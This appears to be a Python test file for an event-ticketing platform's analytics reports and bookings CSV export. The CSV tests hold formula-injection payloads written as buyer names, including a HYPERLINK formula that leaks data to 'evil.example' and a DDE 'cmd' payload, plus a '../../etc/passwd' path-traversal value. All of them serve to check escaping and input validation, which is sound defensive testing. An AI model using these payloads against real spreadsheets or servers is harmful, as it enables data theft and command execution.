"""Analytics over HTTP: the reports that organizers and administrators read, and the file of bookings."""

from __future__ import annotations

import asyncio
import csv
import io
import itertools
import re
from collections.abc import AsyncIterator
from datetime import datetime, timedelta
from typing import Any
from unicodedata import normalize

import httpx2
import pytest
from hypothesis import given
from hypothesis import strategies as st

from evently import organizing
from evently.analytics import SLOTS_MAX
from evently.analytics.export import ROWS_READ
from evently.catalogue import Event
from evently.kit.clock import utc_now
from evently.kit.ids import new_id, show_id
from evently.kit.money import Money
from evently.kit.visible import is_visible
from evently.organizing import NewTicketType, PromoDraft, SaleTerms, Tax
from evently.reactions import EFFECTS
from evently.reactions.relay import IDLE_SECONDS, Relay
from evently.sales.terms import Conditions, Fees, RefundWindow
from evently.web.application import create_asgi
from evently.web.cells import cell, encode_rows
from evently.web.exports import decimal
from tests.support.accounts import MovableClock, make_person
from tests.support.box_office import BoxOffice, open_box_office
from tests.support.catalogue import make_organizer


@pytest.fixture
async def office(database_url: str) -> AsyncIterator[BoxOffice]:
    async with open_box_office(database_url) as opened:
        yield opened


async def deliver(office: BoxOffice) -> None:
    relay = Relay(office.context.database, utc_now, EFFECTS)
    while await relay.run_once() != IDLE_SECONDS:
        pass
    await relay.retire()


async def sell(office: BoxOffice, event: Event, *quantities: int) -> list[dict[str, Any]]:
    answers = [await office.book(event, office.as_buyer(), quantity) for quantity in quantities]
    assert {answer.status_code for answer in answers} <= {201}
    return [answer.json() for answer in answers]


def in_euros(**amounts: int) -> dict[str, Any]:
    return {name: {"amount": amount, "currency": "EUR"} for name, amount in amounts.items()}


def of_event(event: Event) -> str:
    return f"/v1/events/{show_id('evt', event.event_id)}"


def of_organizer(office: BoxOffice) -> str:
    return f"/v1/organizers/{show_id('org', office.venue.organizer_id)}"


def wrong_fields(response: httpx2.Response) -> list[str]:
    assert response.status_code == 422, response.text
    return [error["pointer"] for error in response.json()["errors"]]


async def get(office: BoxOffice, address: str, headers: dict[str, str], **query: str) -> Any:
    answer = await office.client.get(address, headers=headers, params=query)
    assert answer.status_code == 200, answer.text
    assert answer.headers["cache-control"] == "no-store"
    return answer.json()


async def buy(office: BoxOffice, event: Event, quantity: int, **said: Any) -> Any:
    """Book and pay as a new buyer; return the booking as it was placed, and the buyer's headers."""
    buyer = office.as_buyer()
    line = {"ticket_type_id": (await office.types(event))["Regular"], "quantity": quantity}
    booking = (await office.place(event, buyer, line, **said)).json()
    assert (
        await office.post(f"/v1/bookings/{booking['id']}/payments", buyer, method="succeeds")
    ).status_code == 201
    await office.context.checkout.wait_until_idle()
    return booking, buyer


async def test_what_an_event_earns(office: BoxOffice) -> None:
    """A promo code, a fee that buyers pay, a tax in the price and a refund of half, calculated by hand.

    Two tickets for 25.00 less 10 %: 22.50 each, of which 3.59 are tax, and a fee of 1.00 and 5 %: 2.13 with
    0.34 of tax. One for 25.00: 3.99 of tax, and 2.25 of fee with 0.36 of tax; 12.50 of it are refunded, 1.99
    of them tax, and the fee is kept, with its tax. Another two are held.
    """
    conditions = Conditions(
        payment="online",
        fees=Fees(fixed_minor=100, basis_points=500),
        refund_windows=(RefundWindow(0, 5_000),),
        fee_kept=True,
    )
    regular = NewTicketType(name="Regular", price=Money(2500, "EUR"), tax=Tax(1900))
    event = await office.open_event(
        terms=SaleTerms(currency="EUR", capacity=10, ticket_types=(regular,), conditions=conditions)
    )
    async with office.context.database.transaction() as tx:
        await organizing.add_promo_code(
            tx, event.event_id, PromoDraft(code="EARLY", kind="percent", basis_points=1000), utc_now()
        )
    manager = await office.as_member("manager")
    await buy(office, event, 2, promo_code="early")
    cancelled, its_buyer = await buy(office, event, 1)
    await office.book(event, office.as_buyer(), 2)
    assert (await office.post(f"/v1/bookings/{cancelled['id']}/cancel", its_buyer)).status_code == 200
    await deliver(office)
    revenue = in_euros(
        gross=2 * 2463 + 2725,
        cancelled_unpaid=0,
        refunded=1250,
        tax=2 * (359 + 34) + 399 + 36 - 199,
        fees=2 * (213 - 34) + 225 - 36,
        net=4832,
    )
    for address in (of_event(event), of_organizer(office)):
        report = await get(office, f"{address}/analytics", manager)
        assert report["sums"]["amounts"] == [
            in_euros(booked=7500, cancelled=2500, net=5000) | {"revenue": revenue}
        ]
        series = await get(office, f"{address}/analytics/series", manager)
        (point,) = [point for point in series["points"] if point["sums"]["amounts"]]
        assert point["sums"] == report["sums"]
    ranked = await get(office, f"{of_organizer(office)}/analytics/events", manager)
    assert ranked["data"][0]["sums"]["amounts"][0]["revenue"] == revenue
    (money,) = (await get(office, f"{of_event(event)}/analytics/money", manager))["amounts"]
    assert money == revenue | in_euros(settled=0, captured=7651, outstanding=0, due_at_door=0, discount=500)
    conversion = await get(office, f"{of_event(event)}/analytics/conversion", manager)
    assert (conversion["confirmed_at_once"], conversion["offers"]["placed"]) == (0, 0)
    assert conversion["holds"] == {
        "placed": 3,
        "confirmed": 2,
        "expired": 0,
        "cancelled": 0,
        "held": 1,
        "rate": 1.0,
    }
    (sold,) = (await get(office, f"{of_event(event)}/analytics/ticket-types", manager))["ticket_types"]
    assert sold["sums"] == {"sold": 2, "cancelled": 1} | in_euros(sold_amount=2 * 2463, cancelled_amount=2725)
    _, *rows = await table(office, event, manager)
    assert [row[5:10] for row in rows] == [
        ["2", "49.26", "EUR", "49.26", "0.00"],
        ["0", "0.00", "EUR", "27.25", "12.50"],
        ["2", "54.50", "EUR", "0.00", "0.00"],
    ]


async def test_how_a_waitlist_does(office: BoxOffice) -> None:
    event, manager, holder = (
        await office.open_event(capacity=3),
        await office.as_member("manager"),
        office.as_buyer(),
    )
    (type_id,) = (await office.types(event)).values()
    booked = (await office.book(event, holder, 3)).json()
    for quantity in (1, 2, 2):
        joined = await office.post(
            f"{of_event(event)}/waitlist", office.as_buyer(), ticket_type_id=type_id, quantity=quantity
        )
        assert joined.status_code == 201
    given_back = [ticket["id"] for ticket in booked["tickets"][:2]]
    assert (
        await office.post(f"/v1/bookings/{booked['id']}/cancel", holder, ticket_ids=given_back)
    ).status_code == 200
    (line,) = (await get(office, f"{of_event(event)}/analytics/waitlist", manager))["ticket_types"]
    withdrawn = dict.fromkeys(("left", "declined", "lapsed", "cancelled", "over_limit"), 0)
    assert line == {
        "ticket_type_id": type_id,
        "name": "Regular",
        "joined": 3,
        "waiting": 2,
        "waiting_units": 4,
        "offered": 1,
        "offered_units": 1,
        "ever_offered": 1,
        "fulfilled": 0,
        "fulfilled_units": 0,
        "withdrawn": withdrawn,
        "fill_rate": 0.0,
        "set_aside_units": 1,
    }


async def test_which_seats_sell(office: BoxOffice) -> None:
    event, manager, buyer = await office.open_hall(), await office.as_member("manager"), office.as_buyer()
    types = await office.types(event)
    lines = [
        {"ticket_type_id": types["Stalls"], "seats": ["S-A-1", "S-A-2"]},
        {"ticket_type_id": types["Child"], "seats": ["S-A-3"]},
    ]
    booked = (await office.place(event, buyer, *lines)).json()
    assert (
        await office.post(
            f"/v1/bookings/{booked['id']}/cancel", buyer, ticket_ids=[booked["tickets"][1]["id"]]
        )
    ).status_code == 200
    found = await get(office, f"{of_event(event)}/analytics/seats", manager)
    paid = {
        ticket["seat"]["id"]: ticket["total"]["amount"]
        for ticket in booked["tickets"]
        if ticket != booked["tickets"][1]
    }
    assert sorted(price for price in found["prices"] if price is not None) == sorted(paid.values())
    assert [
        state for state, price in zip(found["states"], found["prices"], strict=True) if price is not None
    ] == [2, 2]
    assert found["states"].count(2) == 2
    sales = await get(office, f"{of_event(event)}/analytics/ticket-types", manager)
    sold = {each["name"]: (each["sums"]["sold"], each["sums"]["cancelled"]) for each in sales["ticket_types"]}
    assert (sold["Stalls"], sold["Child"]) == ((1, 1), (1, 0))
    assert sum(section["sums"]["sold"] for section in sales["sections"]) == 2


async def test_what_an_event_has_sold(office: BoxOffice) -> None:
    event, manager = await office.open_event(capacity=10), await office.as_member("manager")
    booked = await sell(office, event, 2, 3)
    cancelled = await office.client.post(
        f"{of_event(event)}/bookings/{booked[0]['id']}/cancel", json={}, headers=manager
    )
    assert cancelled.status_code == 200
    behind = await get(office, f"{of_event(event)}/analytics", manager)
    assert (behind["sums"]["bookings"], behind["journal_rows_behind"] > 0) == (0, True)
    await deliver(office)
    expected = {
        "bookings": 2,
        "tickets": 5,
        "cancelled_bookings": 1,
        "cancelled_tickets": 2,
        "cancellation_rate": 0.5,
        "amounts": [
            {
                "booked": {"amount": 12_500, "currency": "EUR"},
                "cancelled": {"amount": 5_000, "currency": "EUR"},
                "net": {"amount": 7_500, "currency": "EUR"},
                "revenue": in_euros(
                    gross=12_500, cancelled_unpaid=5_000, refunded=0, tax=0, fees=0, net=7_500
                ),
            }
        ],
    }
    assert await get(office, f"{of_event(event)}/analytics", manager) == {
        "from_at": None,
        "to_at": None,
        "events": 1,
        "sums": expected,
        "capacity": {"capacity": 10, "held": 0, "sold": 3, "set_aside": 0, "utilisation": 0.3},
        "journal_rows_behind": 0,
    }
    ours = await get(office, f"{of_organizer(office)}/analytics", manager)
    everybodys = await get(office, "/v1/admin/analytics", office.as_person(new_id(), "admin"))
    assert ours == everybodys
    assert ours["sums"] == expected


async def test_nothing_sold_has_no_rates(office: BoxOffice) -> None:
    manager = await office.as_member(
        "manager", organizer_id := await make_organizer(office.context.database, "New here")
    )
    found = await get(office, f"/v1/organizers/{show_id('org', organizer_id)}/analytics", manager)
    assert found["sums"]["cancellation_rate"] is None
    assert found["capacity"] == {"capacity": 0, "held": 0, "sold": 0, "set_aside": 0, "utilisation": None}
    assert found["events"] == 0


async def test_a_range_is_rounded_outwards_and_said(office: BoxOffice) -> None:
    event, manager = await office.open_event(capacity=10), await office.as_member("manager")
    await sell(office, event, 2)
    await deliver(office)
    found = await get(
        office,
        f"{of_event(event)}/analytics",
        manager,
        **{"from": "2026-01-01T10:07:00+05:45", "to": "2199-06-01T10:00:01Z"},
    )
    assert (found["from_at"], found["to_at"]) == ("2026-01-01T04:15:00Z", "2199-06-01T10:15:00Z")
    assert found["sums"]["tickets"] == 2
    before = await get(
        office, f"{of_event(event)}/analytics", manager, to=(utc_now() - timedelta(days=1)).isoformat()
    )
    assert before["sums"]["tickets"] == 0
    assert before["capacity"]["sold"] == 2, "capacity is the present one, whatever the range"


@pytest.mark.parametrize("where", ["event", "organizer", "platform"])
async def test_a_series(office: BoxOffice, where: str) -> None:
    event, manager = await office.open_event(capacity=10), await office.as_member("manager")
    await sell(office, event, 2, 3)
    await deliver(office)
    address = {"event": of_event(event), "organizer": of_organizer(office), "platform": "/v1/admin"}[where]
    headers = office.as_person(new_id(), "admin") if where == "platform" else manager
    by_day = await get(office, f"{address}/analytics/series", headers)
    assert (by_day["granularity"], by_day["time_zone"]) == (
        "day",
        "Europe/Berlin" if where == "event" else "UTC",
    )
    assert len(by_day["points"]) == 31
    assert by_day["points"][0]["starts_at"] == by_day["from_at"]
    assert sum(point["sums"]["tickets"] for point in by_day["points"]) == 5

    by_hour = await get(
        office, f"{address}/analytics/series", headers, granularity="hour", time_zone="Asia/Kathmandu"
    )
    assert (by_hour["granularity"], by_hour["time_zone"], len(by_hour["points"])) == (
        "hour",
        "Asia/Kathmandu",
        49,
    )
    assert all(point["local_start"].endswith(":00:00+05:45") for point in by_hour["points"])
    assert all(datetime.fromisoformat(point["starts_at"]).minute == 15 for point in by_hour["points"])
    assert [point["sums"]["bookings"] for point in by_hour["points"] if point["sums"]["amounts"]] in (
        [2],
        [1, 1],
    )


async def test_the_most_booked_events(office: BoxOffice) -> None:
    events, manager = (
        [await office.open_event(capacity=10) for _ in range(3)],
        await office.as_member("manager"),
    )
    for event, quantity in zip(events, (1, 5, 3), strict=True):
        await sell(office, event, quantity)
    await deliver(office)
    expected = [show_id("evt", events[place].event_id) for place in (1, 2, 0)]
    for address, headers in (
        (f"{of_organizer(office)}/analytics/events", manager),
        ("/v1/admin/analytics/events", office.as_person(new_id(), "admin")),
    ):
        first = await office.client.get(address, params={"limit": "2"}, headers=headers)
        second = await office.client.get(
            first.headers["link"].partition(">")[0].removeprefix("<"), headers=headers
        )
        shown = first.json()["data"] + second.json()["data"]
        assert [event["event_id"] for event in shown] == expected
        assert second.json()["next_cursor"] is None
        assert shown[0]["capacity"]["utilisation"] == 0.5
        assert shown[0]["sums"]["tickets"] == 5


@pytest.mark.parametrize(
    ("address", "query", "pointers"),
    [
        ("analytics", {"from": "yesterday"}, ["?from"]),
        ("analytics", {"from": "2026-01-01T00:00:00", "to": "2026-13-01T00:00:00Z"}, ["?from", "?to"]),
        ("analytics", {"from": "1999-12-31T23:59:59Z"}, ["?from"]),
        ("analytics", {"to": "9999-12-31T23:59:59Z"}, ["?to"]),
        ("analytics", {"to": "0001-01-01T00:00:00+23:59"}, ["?to"]),
        ("analytics", {"from": "2026-01-02T00:00:00Z", "to": "2026-01-02T00:00:00Z"}, ["?to"]),
        ("analytics", {"from": "2026-01-02T00:00:00Z" + "0" * 50}, ["?from"]),
        ("analytics/series", {"time_zone": "Mars/Base"}, ["?time_zone"]),
        ("analytics/series", {"time_zone": "../../etc/passwd", "from": "never"}, ["?from", "?time_zone"]),
        ("analytics/series", {"granularity": "minute"}, ["?granularity"]),
        ("analytics/series", {"from": "2199-01-01T00:00:00Z"}, ["?from"]),
        ("analytics/series", {"from": "2001-01-01T00:00:00Z"}, ["?from"]),
        ("analytics/series", {"to": "2000-01-01T00:00:00Z"}, ["?from"]),
        (
            "analytics/series",
            {"granularity": "hour", "from": "2026-01-01T00:00:00Z", "to": "2026-06-01T00:00:00Z"},
            ["?from"],
        ),
        ("analytics/events", {"limit": "101"}, ["?limit"]),
        ("analytics/events", {"after": "nonsense"}, ["?after"]),
    ],
)
async def test_what_makes_no_sense_is_refused(
    office: BoxOffice, address: str, query: dict[str, str], pointers: list[str]
) -> None:
    manager = await office.as_member("manager")
    answer = await office.client.get(f"{of_organizer(office)}/{address}", params=query, headers=manager)
    assert wrong_fields(answer) == pointers


async def test_a_series_may_have_a_thousand_points(office: BoxOffice) -> None:
    manager = await office.as_member("manager")
    range_of = {"from": "2024-01-01T00:00:00Z", "to": "2026-09-27T00:00:00Z"}
    assert (
        len((await get(office, f"{of_organizer(office)}/analytics/series", manager, **range_of))["points"])
        == SLOTS_MAX
    )


@pytest.mark.parametrize("what", ["analytics", "analytics/series", "bookings.csv"])
async def test_it_is_for_managers(office: BoxOffice, what: str) -> None:
    event, draft = await office.open_event(), await office.open_event(publish=False)
    stranger = await office.as_member("owner", await make_organizer(office.context.database, "Elsewhere"))
    for headers, published, unpublished in (
        ({}, 401, 401),
        (office.as_buyer(), 403, 404),
        (stranger, 403, 404),
        (await office.as_member("door"), 403, 403),
        (await office.as_member("manager"), 200, 200),
        (office.as_person(new_id(), "admin"), 200, 200),
    ):
        assert (
            await office.client.get(f"{of_event(event)}/{what}", headers=headers)
        ).status_code == published
        assert (
            await office.client.get(f"{of_event(draft)}/{what}", headers=headers)
        ).status_code == unpublished
    assert (
        await office.client.get(f"/v1/events/{show_id('evt', new_id())}/{what}", headers=stranger)
    ).status_code == 404


@pytest.mark.parametrize("what", ["analytics", "analytics/series", "analytics/events"])
async def test_the_platform_is_for_administrators(office: BoxOffice, what: str) -> None:
    for headers, status in (
        ({}, 401),
        (await office.as_member("owner"), 403),
        (office.as_person(new_id(), "admin"), 200),
    ):
        assert (await office.client.get(f"/v1/admin/{what}", headers=headers)).status_code == status


# The file of bookings ---------------------------------------------------------------------------------------


async def table(office: BoxOffice, event: Event, manager: dict[str, str] | None = None) -> list[list[str]]:
    answer = await office.client.get(
        f"{of_event(event)}/bookings.csv", headers=manager or await office.as_member("manager")
    )
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert (
        answer.headers["content-disposition"]
        == f'attachment; filename="bookings-{show_id("evt", event.event_id)}.csv"'
    )
    assert answer.headers["cache-control"] == "no-store"
    assert answer.content.startswith(b"\xef\xbb\xbfreference,")
    assert b"fee_tax\r\n" in answer.content
    assert answer.content.endswith(b"\r\n")
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""), strict=True))


async def test_the_bookings_of_an_event_as_a_file(office: BoxOffice) -> None:
    event = await office.open_event(capacity=10)
    person_id = await make_person(office.context.database, "ada@example.org", MovableClock())
    booked = (await office.book(event, office.as_person(person_id), 3)).json()
    (head, *rows) = await table(office, event)
    assert head == [
        "reference",
        "booking_id",
        "state",
        "buyer_name",
        "buyer_email",
        "tickets",
        "amount",
        "currency",
        "paid",
        "refunded",
        "placed_at",
        "confirmed_at",
        "ended_at",
        "fee",
        "tax",
        "fee_tax",
    ]
    placed_at = booked["placed_at"].partition(".")[0] + "Z"
    assert rows == [
        [
            booked["reference"],
            booked["id"],
            "confirmed",
            "ada",
            "ada@example.org",
            "3",
            "75.00",
            "EUR",
            "0.00",
            "0.00",
            placed_at,
            placed_at,
            "",
            "0.00",
            "0.00",
            "0.00",
        ]
    ]


async def test_an_event_without_bookings_has_a_header(office: BoxOffice) -> None:
    assert len(await table(office, await office.open_event())) == 1


async def test_a_large_file_is_whole(office: BoxOffice) -> None:
    event = await office.open_event(capacity=1_000)
    ids = {booking["id"] for booking in await sell(office, event, *[1] * (ROWS_READ + 1))}
    rows = await table(office, event)
    assert {row[1] for row in rows[1:]} == ids
    assert len(rows) == len(ids) + 1


async def test_money_without_decimals_has_none(office: BoxOffice) -> None:
    event = await office.open_event(capacity=10, price=Money(2500, "EUR"))
    await sell(office, event, 1)
    assert (await table(office, event))[1][6:8] == ["25.00", "EUR"]
    assert [decimal(1234, currency) for currency in ("EUR", "JPY", "KWD")] == ["12.34", "1234", "1.234"]
    assert [decimal(minor, "EUR") for minor in (0, 5, 100)] == ["0.00", "0.05", "1.00"]


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example?"&A1,"click")',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
    ],
)
async def test_no_name_is_a_formula(office: BoxOffice, name: str) -> None:
    event = await office.open_event(capacity=10)
    person_id = await make_person(office.context.database, "eve@example.org", MovableClock())
    async with office.context.database.transaction() as tx:
        await tx.execute("UPDATE people SET name = $2 WHERE person_id = $1", person_id, name)
    await office.book(event, office.as_person(person_id), 1)
    shown = (await table(office, event))[1][3]
    assert shown.replace("'", "", 1) == name
    assert shown.lstrip().startswith("'")


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        (";=1", ";'=1"),
        ("x;=1+cmd|' /C calc'!A0", "x;'=1+cmd|' /C calc'!A0"),
        ("x\t=1", "x\t'=1"),
        ("x,-1", "x,'-1"),
        ('x;"=1"', 'x;"\'=1"'),
        ("\u200b=1", "\u200b'=1"),
        ("\ufeff=1", "\ufeff'=1"),
        ("\u00ad=1", "\u00ad'=1"),
        (" =1", " '=1"),
        ("\u3164+1", "\u3164'+1"),
        ("a=b; c-d, e+f@g", "a=b; c-d, e+f@g"),
        ("Ann (-1)", "Ann (-1)"),
    ],
)
def test_no_part_of_a_name_is_a_formula(name: str, shown: str) -> None:
    assert cell(name) == shown


@given(
    text=st.text(st.sampled_from("=+-@,;\t\r\n\"' |aé＝\u200b\ufeff\u00ad\u3164\u2212\u2028"), max_size=12)
    | st.text(max_size=12)
)
def test_no_spreadsheet_finds_a_formula(text: str) -> None:
    """Whatever the separator is, and whether quotes are understood, no cell begins a formula."""
    file = encode_rows([["ref", cell(text), "end"]]).decode()
    cells = [cell for separator in ",;\t" for cell in re.split(rf"[{separator}\r\n]", file)]
    for separator in ",;\t":
        cells += itertools.chain(*csv.reader(re.split(r"[\r\n]+", file), delimiter=separator))
    for found in cells:
        begin = next((each for each in found if each != '"' and is_visible(each)), "")
        assert normalize("NFKC", begin) not in {*"=+-@\u2212"}, (text, found)


async def test_the_byte_order_mark_can_be_left_out(office: BoxOffice) -> None:
    event = await office.open_event()
    manager = await office.as_member("manager")
    for wanted, start in (("true", b"\xef\xbb\xbfreference,"), ("false", b"reference,")):
        answer = await office.client.get(
            f"{of_event(event)}/bookings.csv?byte_order_mark={wanted}", headers=manager
        )
        assert answer.content.startswith(start)


@pytest.mark.parametrize(
    "name", ['Ann "The Hat", Jr.', "line\r\nbreak", "Zoë; O'Hara", "नेपाल", "a=b", " lead"]
)
async def test_names_survive_as_they_are(office: BoxOffice, name: str) -> None:
    event = await office.open_event(capacity=10)
    person_id = await make_person(office.context.database, "ann@example.org", MovableClock())
    async with office.context.database.transaction() as tx:
        await tx.execute("UPDATE people SET name = $2 WHERE person_id = $1", person_id, name)
    await office.book(event, office.as_person(person_id), 1)
    assert (await table(office, event))[1][3] == name
    assert cell(None) == cell("") == ""


async def test_the_erased_are_not_named(office: BoxOffice) -> None:
    event = await office.open_event(capacity=10)
    person_id = await make_person(office.context.database, "gone@example.org", MovableClock())
    await office.book(event, office.as_person(person_id), 1)
    async with office.context.database.transaction() as tx:
        await tx.execute(
            "UPDATE people SET email = NULL, name = '', erased_at = $2 WHERE person_id = $1",
            person_id,
            utc_now(),
        )
    assert (await table(office, event))[1][3:5] == ["(erased)", "(erased)"]


async def test_a_reader_that_takes_nothing_holds_no_transaction_and_no_slot(database_url: str) -> None:
    """Eight slow readers took all slots of reports, and held back vacuum for as long as they liked."""
    async with open_box_office(database_url, heavy_reads_max=1) as office:
        event = await office.open_event(capacity=100)
        await sell(office, event, 1, 2, 3)
        manager = await office.as_member("manager")
        asgi: Any = create_asgi(office.context)
        begun = asyncio.Event()

        async def receive() -> Any:
            await asyncio.Event().wait()

        async def send(message: Any) -> None:  # ASGI, by name
            begun.set()
            await asyncio.Event().wait()

        scope = {
            "type": "http",
            "method": "GET",
            "path": f"{of_event(event)}/bookings.csv",
            "query_string": b"",
            "client": ("127.0.0.1", 1),
            "headers": [(b"authorization", manager["Authorization"].encode())],
        }
        reading = asyncio.create_task(asgi(scope, receive, send))
        await asyncio.wait_for(begun.wait(), 60)
        open_transactions = await office.context.database.fetch_value(
            "SELECT count(*) FROM pg_stat_activity "
            "WHERE datname = current_database() AND state LIKE 'idle in transaction%'"
        )
        assert open_transactions == 0
        assert len(await table(office, event, manager)) == 4, "the organizer's own slot is free"
        assert office.context.downloads.bytes > 0
        reading.cancel()
        await asyncio.wait([reading])
        assert office.context.downloads.bytes == 0, "the file is gone"
